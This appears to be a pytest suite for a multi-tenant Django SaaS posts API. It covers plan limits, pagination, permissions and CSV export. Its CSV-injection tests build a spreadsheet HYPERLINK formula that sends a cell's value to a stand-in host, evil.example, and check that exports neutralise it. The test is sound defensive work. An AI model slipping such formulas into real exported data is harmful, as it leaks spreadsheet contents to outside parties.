"""Posts live in each company's schema; creating needs `posts` and a free slot, export needs `exports`."""

import csv
import io

import pytest

from subscriptions.plans import PLANS
from tests.factories import CompanyFactory, MembershipFactory, give_subscription
from tests.helpers import company_client

pytestmark = pytest.mark.django_db


@pytest.fixture
def basic_company():
    company = CompanyFactory()
    give_subscription(company, status="active", lookup_key="basic_monthly")
    return company, MembershipFactory(company=company, role="admin").user


def _create(client, title):
    return client.post("/api/posts/", {"title": title, "body": "b"}, content_type="application/json")


def test_members_create_read_update_and_delete_posts(basic_company):
    company, admin = basic_company
    client = company_client(company, admin)
    created = _create(client, "hello")
    assert created.status_code == 201
    post = created.json()
    assert created["Location"].endswith(f"/api/posts/{post['id']}/")
    assert post["author_email"] == admin.email
    assert (
        client.patch(f"/api/posts/{post['id']}/", {"title": "hi"}, content_type="application/json").json()["title"]
        == "hi"
    )
    assert client.get(f"/api/posts/{post['id']}/").json()["title"] == "hi"
    assert client.delete(f"/api/posts/{post['id']}/").status_code == 204
    assert client.get("/api/posts/").json()["results"] == []


def test_max_posts_is_enforced_at_the_boundary(basic_company):
    company, admin = basic_company
    client = company_client(company, admin)
    limit = PLANS["basic"].limits["max_posts"]
    for number in range(limit):
        assert _create(client, f"post {number}").status_code == 201
    denied = _create(client, "one too many")
    assert denied.status_code == 402
    assert denied.json()["code"] == "plan_limit_reached"
    # Deleting one frees a slot.
    first = client.get("/api/posts/").json()["results"][0]["id"]
    assert client.delete(f"/api/posts/{first}/").status_code == 204
    assert _create(client, "fits again").status_code == 201


def test_lists_are_cursor_paginated(basic_company):
    company, admin = basic_company
    client = company_client(company, admin)
    for number in range(5):
        _create(client, f"p{number}")
    page = client.get("/api/posts/?page_size=2").json()
    assert len(page["results"]) == 2 and page["next"]
    assert [p["title"] for p in page["results"]] == ["p4", "p3"]


def test_export_is_a_csv_of_every_post_on_pro():
    company = CompanyFactory()
    give_subscription(company, status="active", lookup_key="pro_monthly")
    admin = MembershipFactory(company=company, role="admin").user
    client = company_client(company, admin)
    for number in range(3):
        _create(client, f"p{number}")
    response = client.get("/api/posts/export/")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0][:2] == ["id", "title"] and [r[1] for r in rows[1:]] == ["p0", "p1", "p2"]


def test_token_clients_need_api_access(basic_company):
    from companies.tokens import api_token_create

    company, admin = basic_company
    _, key = api_token_create(user=admin)
    give_subscription(company, status="active", lookup_key="basic_monthly", entitlement_features=["posts"])
    response = company_client(company).get("/api/posts/", HTTP_AUTHORIZATION=f"Bearer {key}")
    assert response.status_code == 402
    assert response.json()["code"] == "feature_not_in_plan"
    assert company_client(company, admin).get("/api/posts/").status_code == 200  # the browser session still reads


def test_dashboard_shows_plan_limits_and_recent_posts(basic_company):
    company, admin = basic_company
    client = company_client(company, admin)
    _create(client, "visible on the dashboard")
    page = client.get("/").content.decode()
    assert "visible on the dashboard" in page
    assert "1 of 10" in page
    assert "not in your plan" in page  # exports


def test_invitations_respect_max_members(basic_company):
    company, admin = basic_company
    client = company_client(company, admin)
    limit = PLANS["basic"].limits["max_members"]
    for number in range(limit - 1):
        invited = client.post("/api/invitations/", {"email": f"m{number}@example.com"}, content_type="application/json")
        assert invited.status_code == 201
    denied = client.post("/api/invitations/", {"email": "extra@example.com"}, content_type="application/json")
    assert denied.status_code == 402 and denied.json()["code"] == "plan_limit_reached"
    seats = len(client.get("/api/members/").json()["results"]) + len(client.get("/api/invitations/").json()["results"])
    assert seats == limit


def test_admins_remove_members_but_never_the_last_admin(basic_company):
    company, admin = basic_company
    client = company_client(company, admin)
    temporary = MembershipFactory(company=company)
    assert client.get(f"/api/members/{temporary.pk}/").json()["email"] == temporary.user.email
    assert client.delete(f"/api/members/{temporary.pk}/").status_code == 204
    own = next(m for m in client.get("/api/members/").json()["results"] if m["email"] == admin.email)
    refused = client.delete(f"/api/members/{own['id']}/")
    assert refused.status_code == 409 and refused.json()["code"] == "last_admin"


@pytest.fixture
def someone_elses_post(basic_company):
    """A post the admin wrote, and a member of the same company who did not."""
    company, admin = basic_company
    post = _create(company_client(company, admin), "the admin's words").json()
    return company, admin, MembershipFactory(company=company, role="member").user, post


@pytest.mark.parametrize(
    "method, body",
    [("put", {"title": "defaced", "body": "x"}), ("patch", {"title": "defaced"}), ("delete", None)],
)
def test_member_cannot_edit_someone_elses_post(someone_elses_post, method, body):
    company, _, member, post = someone_elses_post
    client = company_client(company, member)
    kwargs = {"content_type": "application/json"} if body else {}
    response = getattr(client, method)(f"/api/posts/{post['id']}/", *([body] if body else []), **kwargs)
    assert response.status_code == 403
    assert response.json() == {
        "code": "not_author",
        "detail": "Only the post's author or a company admin can change it.",
    }
    assert client.get(f"/api/posts/{post['id']}/").json()["title"] == "the admin's words"


def test_authors_edit_and_delete_their_own_posts_and_admins_anyone_s(someone_elses_post):
    company, admin, member, admins_post = someone_elses_post
    member_client, admin_client = company_client(company, member), company_client(company, admin)
    own = _create(member_client, "mine").json()
    assert (
        member_client.patch(
            f"/api/posts/{own['id']}/", {"title": "still mine"}, content_type="application/json"
        ).status_code
        == 200
    )
    # An admin may tidy any post, the member's included.
    assert (
        admin_client.patch(f"/api/posts/{own['id']}/", {"title": "moderated"}, content_type="application/json").json()[
            "title"
        ]
        == "moderated"
    )
    assert member_client.delete(f"/api/posts/{own['id']}/").status_code == 204
    assert admin_client.delete(f"/api/posts/{admins_post['id']}/").status_code == 204
    assert admin_client.get("/api/posts/").json()["results"] == []


def test_demoted_admin_can_no_longer_edit_others_posts(someone_elses_post):
    from companies.models import Membership

    company, admin, member, post = someone_elses_post
    Membership.objects.filter(company=company, user=member).update(role="admin")
    client = company_client(company, member)
    assert (
        client.patch(f"/api/posts/{post['id']}/", {"title": "as admin"}, content_type="application/json").status_code
        == 200
    )
    Membership.objects.filter(company=company, user=member).update(role="member")
    response = company_client(company, member).patch(
        f"/api/posts/{post['id']}/", {"title": "no more"}, content_type="application/json"
    )
    assert response.status_code == 403 and response.json()["code"] == "not_author"


@pytest.fixture
def pro_company():
    company = CompanyFactory()
    give_subscription(company, status="active", lookup_key="pro_monthly")
    return company, MembershipFactory(company=company, role="admin").user


def _exported_rows(company, admin) -> list[list[str]]:
    response = company_client(company, admin).get("/api/posts/export/")
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.content.decode())))


@pytest.mark.parametrize(
    "trigger", ["=", "+", "-", "@", "\t", "\r"], ids=["equals", "plus", "minus", "at", "tab", "cr"]
)
def test_csv_cells_that_start_a_formula_are_quoted(pro_company, trigger):
    """Title and body starting like a formula come out as text: prefixed with an apostrophe."""
    from django_tenants.utils import tenant_context

    from tests.factories import PostFactory

    company, admin = pro_company
    payload = trigger + 'HYPERLINK("http://evil.example/?"&A1,"open")'
    # Stored as is (the API trims leading whitespace; other writers may not).
    with tenant_context(company):
        PostFactory(title=payload, body=payload, author=admin)
    header, row = _exported_rows(company, admin)
    title, body = row[header.index("title")], row[header.index("body")]
    assert title == body == "'" + payload


def test_csv_formula_sent_through_the_api_is_exported_as_text(pro_company):
    company, admin = pro_company
    client = company_client(company, admin)
    assert _create(client, "=1+2").status_code == 201
    assert (
        client.post(
            "/api/posts/", {"title": "-2+3", "body": "@SUM(A1:A9)"}, content_type="application/json"
        ).status_code
        == 201
    )
    rows = _exported_rows(company, admin)
    assert [(r[1], r[2]) for r in rows[1:]] == [("'=1+2", "b"), ("'-2+3", "'@SUM(A1:A9)")]


def test_csv_cells_that_merely_contain_formula_characters_are_unchanged(pro_company):
    company, admin = pro_company
    _create(company_client(company, admin), "a = b + c - d @ e")
    rows = _exported_rows(company, admin)
    assert rows[1][1] == "a = b + c - d @ e"
    assert rows[1][0].isdigit()  # ids and times are never prefixed
